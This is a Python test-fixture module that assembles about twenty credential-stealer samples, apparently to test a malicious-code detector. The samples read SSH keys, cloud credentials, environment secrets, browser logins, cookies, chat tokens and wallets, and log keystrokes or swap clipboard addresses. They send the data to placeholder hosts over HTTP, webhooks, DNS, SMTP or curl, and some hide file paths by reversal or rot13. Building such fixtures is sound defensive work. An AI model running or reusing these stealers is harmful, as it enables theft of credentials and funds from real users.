"""Stealers: credentials, browsers, wallets, tokens, the environment, keyboard, clipboard."""

from tests.malicious.making import HOOK, HOST, Sample, imported, rot13

FAMILY = "stealers"


def samples() -> list[Sample]:
    """All of the family."""

    def sample(name: str, text: str, **more: str) -> Sample:
        return imported(FAMILY, name, text, **more)

    return [
        sample(
            "SSH keys by glob",
            "import glob, os, requests\nfor path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
            f"    requests.post('{HOST}', files={{'f': open(path, 'rb')}})\n",
        ),
        sample(
            "cloud keys by pathlib",
            "import pathlib, urllib.request\nhome = pathlib.Path.home()\n"
            "data = (home / '.aws' / 'credentials').read_bytes()\n"
            f"urllib.request.urlopen(urllib.request.Request('{HOST}', data=data))\n",
        ),
        sample(
            "environment to a webhook",
            "import os, json\nfrom urllib import request as r\n"
            "body = json.dumps({'content': json.dumps(dict(os.environ))}).encode()\n"
            f"r.urlopen(r.Request('{HOOK}', body, {{'Content-Type': 'application/json'}}))\n",
        ),
        sample(
            "environment filtered",
            "import os, requests\nfound = {k: v for k, v in os.environ.items() if 'KEY' in k}\n"
            f"requests.post('{HOST}', json=found)\n",
        ),
        sample(
            "one token",
            "import os, http.client\nc = http.client.HTTPSConnection('example.invalid')\n"
            "c.request('POST', '/', os.environ.get('AWS_SECRET_ACCESS_KEY', ''))\n",
        ),
        sample(
            "chat tokens",
            "import os, re, requests\nroot = os.getenv('APPDATA')\n"
            "def tokens():\n    found = []\n"
            "    folder = root + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
            "    for name in os.listdir(folder):\n"
            "        for line in open(os.path.join(folder, name), errors='ignore'):\n"
            "            found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', line)\n"
            "    return found\n"
            f"requests.post('{HOOK}', json={{'content': ' '.join(tokens())}})\n",
        ),
        sample(
            "browser's logins",
            "import os, shutil, sqlite3, win32crypt, requests\n"
            "db = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', "
            "'Default', 'Login Data')\nshutil.copy2(db, 'l.db')\n"
            "rows = sqlite3.connect('l.db').execute('select * from logins').fetchall()\n"
            "plain = [win32crypt.CryptUnprotectData(r[2]) for r in rows]\n"
            f"requests.post('{HOST}', data=str(plain))\n",
        ),
        sample(
            "cookies by a library",
            "import browser_cookie3, requests\n"
            f"requests.post('{HOST}', json=[c.value for c in browser_cookie3.chrome()])\n",
        ),
        sample(
            "wallets into an archive",
            "import os, zipfile, requests\nwith zipfile.ZipFile('/tmp/w.zip', 'w') as z:\n"
            "    z.write(os.path.expanduser('~/.bitcoin/wallet.dat'))\n"
            "    z.write(os.path.expanduser('~/.electrum/wallets/default'))\n"
            f"requests.post('{HOST}', files={{'z': open('/tmp/w.zip', 'rb')}})\n",
        ),
        sample(
            "harvester that is never called here",
            "import os, requests\nclass Grabber:\n    def collect(self):\n        home = '~'\n"
            "        for name in ('.ssh/id_rsa', '.aws/credentials', '.pypirc',"
            " '.config/google-chrome/Default/Login Data'):\n"
            "            yield open(os.path.join(home, name)).read()\n"
            "    def send(self):\n"
            f"        requests.post('{HOST}', json=list(self.collect()))\n",
        ),
        sample(
            "clipboard swapper",
            "import re, threading, time, pyperclip\nMINE = 'bc1qaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n"
            "def watch():\n    while True:\n        text = pyperclip.paste()\n"
            "        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', text):\n"
            "            pyperclip.copy(MINE)\n        time.sleep(1)\n"
            "threading.Thread(target=watch, daemon=True).start()\n",
        ),
        sample(
            "keylogger",
            "import requests\nfrom pynput import keyboard\nkeys = []\ndef pressed(key):\n"
            "    keys.append(str(key))\n    if len(keys) > 50:\n"
            f"        requests.post('{HOST}', data=''.join(keys))\n"
            "keyboard.Listener(on_press=pressed).start()\n",
        ),
        sample(
            "screenshots",
            "import io, requests\nfrom PIL import ImageGrab\nshot = ImageGrab.grab()\n"
            "out = io.BytesIO()\nshot.save(out, 'PNG')\n"
            "def send(data):\n"
            f"    requests.post('{HOOK}', files={{'f': data}})\nsend(out)\n",
        ),
        sample(
            "telegram bot",
            "import os, requests, platform\n"
            "URL = 'https://api.telegram.org/bot1000000000:AAAA/sendMessage'\n"
            "requests.get(URL, params={'chat_id': 1, 'text': platform.node()})\n",
        ),
        sample(
            "who is there",
            "import getpass, os, socket, urllib.parse, urllib.request\n"
            "info = {'u': getpass.getuser(), 'h': socket.gethostname(), 'd': os.getcwd()}\n"
            f"urllib.request.urlopen('{HOST}/?' + urllib.parse.urlencode(info))\n",
        ),
        sample(
            "by DNS, in pieces",
            "import os, socket, base64\n"
            "data = base64.b32encode(open('/etc/passwd', 'rb').read()).decode()\n"
            "for i in range(0, len(data), 60):\n"
            "    try:\n        socket.gethostbyname(data[i:i + 60] + '.x.example.invalid')\n"
            "    except OSError:\n        pass\n",
        ),
        sample(
            "by curl",
            f"import os\nos.system('curl -s -d @$HOME/.aws/credentials {HOST}')\n",
        ),
        sample(
            "path written backwards",
            "import os, requests\np = os.path.expanduser('~/' + 'asr_di/hss.'[::-1])\n"
            f"requests.post('{HOST}', data=open(p).read())\n",
        ),
        sample(
            "path in rot13",
            "import codecs, os, requests\n"
            f"p = os.path.expanduser(codecs.decode('{rot13('~/.ssh/id_rsa')}', 'rot13'))\n"
            f"with open(p) as f:\n    requests.post('{HOST}', data=f.read())\n",
        ),
        sample(
            "metadata of the cloud",
            "import requests\ntoken = requests.get('http://169.254.169.254/latest/meta-data/"
            "iam/security-credentials/').text\n"
            f"requests.post('{HOST}', data=token)\n",
        ),
        sample(
            "mail",
            "import smtplib, os\ns = smtplib.SMTP('example.invalid')\n"
            "s.sendmail('a@example.invalid', 'b@example.invalid', str(os.environ.copy()))\n",
        ),
    ]
